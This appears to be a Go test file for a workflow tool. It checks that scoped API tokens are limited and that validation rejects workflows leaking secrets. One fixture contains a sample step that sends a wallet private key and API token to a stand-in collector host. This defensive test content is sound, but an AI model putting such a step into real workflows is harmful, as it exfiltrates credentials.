package main

import (
	"bytes"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/rflow-dev/rflow/store/storetest"
)

const securityProject = `
name: secured
api:
  tokens:
    - { name: ci, token: "${CI_TOKEN}", roles: [read, deploy] }
workflows:
  - name: manual
    trigger: { manual: {} }
    steps:
      - { id: park, delay: 1h }
`

func loopbackAddr(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer l.Close()
	return l.Addr().String()
}

// TestStartMetricsAddrAndScopedTokens runs `rflow start` as a process with
// --metrics-addr and a scoped token from rflow.yaml: /metrics is served on
// its own listener only, the scoped token reads but is refused a run start
// with 403 naming the role, and RFLOW_API_TOKEN still does everything.
func TestStartMetricsAddrAndScopedTokens(t *testing.T) {
	t.Parallel()
	config := filepath.Join(t.TempDir(), "rflow.yaml")
	require.NoError(t, os.WriteFile(config, []byte(securityProject), 0o644))
	addr, metricsAddr := loopbackAddr(t), loopbackAddr(t)
	p := startRflowArgs(t, []string{"RFLOW_API_TOKEN=full-token-0123456789", "CI_TOKEN=ci-token-0123456789abcdef"},
		"--database-url", storetest.URL(t), "--log-level", "warn",
		"start", "-c", config, "--http", addr, "--metrics-addr", metricsAddr, "--trusted-proxy", "10.0.0.0/8")
	defer p.stop(t)
	base := "http://" + addr
	require.Eventually(t, func() bool {
		resp, err := http.Get(base + "/readyz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == 200
	}, 30*time.Second, 50*time.Millisecond, "output: %s", p.out)

	get := func(url, token string) (int, string) {
		req, err := http.NewRequest(http.MethodGet, url, nil)
		require.NoError(t, err)
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		resp, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(body)
	}
	code, _ := get(base+"/metrics", "")
	require.Equal(t, http.StatusNotFound, code, "/metrics is not on --http when --metrics-addr is set")
	code, body := get("http://"+metricsAddr+"/metrics", "")
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, body, "rflow_database_up")
	code, _ = get("http://"+metricsAddr+"/v1/runs", "full-token-0123456789")
	require.Equal(t, http.StatusNotFound, code, "the metrics listener serves nothing else")

	code, body = get(base+"/v1/runs", "ci-token-0123456789abcdef")
	require.Equal(t, http.StatusOK, code, body)
	start := func(token string) (int, string) {
		req, err := http.NewRequest(http.MethodPost, base+"/v1/workflows/manual/runs", bytes.NewReader([]byte(`{}`)))
		require.NoError(t, err)
		req.Header.Set("Authorization", "bearer "+token)
		req.Header.Set("Idempotency-Key", "k-"+token[:2])
		resp, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	code, body = start("ci-token-0123456789abcdef")
	require.Equal(t, http.StatusForbidden, code, body)
	require.Contains(t, body, `"code":"forbidden"`)
	require.Contains(t, body, "needs the operate role; token ci holds read, deploy")
	code, body = start("full-token-0123456789")
	require.Equal(t, http.StatusCreated, code, body)
}

// TestValidateRefusesSecretsInSteps: `rflow validate` fails, naming the
// variable, when a workflow of the project's own files interpolates a
// credential; it warns about a credential written literally.
func TestValidateRefusesSecretsInSteps(t *testing.T) {
	// Not parallel: it sets the process environment validate reads.
	dir := t.TempDir()
	config := filepath.Join(dir, "rflow.yaml")
	require.NoError(t, os.WriteFile(config, []byte(`name: leaky
wallets:
  - { name: ops, private_key: "${OPS_PRIVATE_KEY}" }
workflows:
  - name: leak
    trigger: { manual: {} }
    steps:
      - { id: out, http_call: { url: "https://collector.example/?k=${OPS_PRIVATE_KEY}&t=${RFLOW_API_TOKEN}" } }
`), 0o644))
	t.Setenv("OPS_PRIVATE_KEY", "0x59c6995e998f97a5a0044966f0945389dc9e86dae88c7a8412f4603b6b78690d")
	t.Setenv("RFLOW_API_TOKEN", "full-token-0123456789")
	var out, errOut bytes.Buffer
	code := run([]string{"rflow", "validate", "-c", config}, &out, &errOut)
	require.Equal(t, exitFailure, code, "stdout: %s\nstderr: %s", out.String(), errOut.String())
	all := out.String() + errOut.String()
	require.Contains(t, all, "rflow.yaml:8:")
	require.Contains(t, all, "${OPS_PRIVATE_KEY} can never be interpolated into a workflow (it holds wallet ops's private key)")
	require.Contains(t, all, "${RFLOW_API_TOKEN} can never be interpolated into a workflow")
	require.NotContains(t, all, "59c6995e")

	require.NoError(t, os.WriteFile(config, []byte(`name: literal
wallets:
  - { name: ops, private_key: "0x59c6995e998f97a5a0044966f0945389dc9e86dae88c7a8412f4603b6b78690d" }
workflows: []
`), 0o644))
	out.Reset()
	errOut.Reset()
	code = run([]string{"rflow", "validate", "-c", config}, &out, &errOut)
	require.Equal(t, 0, code, "%s%s", out.String(), errOut.String())
	require.Contains(t, out.String()+errOut.String(), "warning: wallet ops: private_key is written literally")
	code = run([]string{"rflow", "validate", "--strict", "-c", config}, &out, &errOut)
	require.Equal(t, exitFailure, code)
}
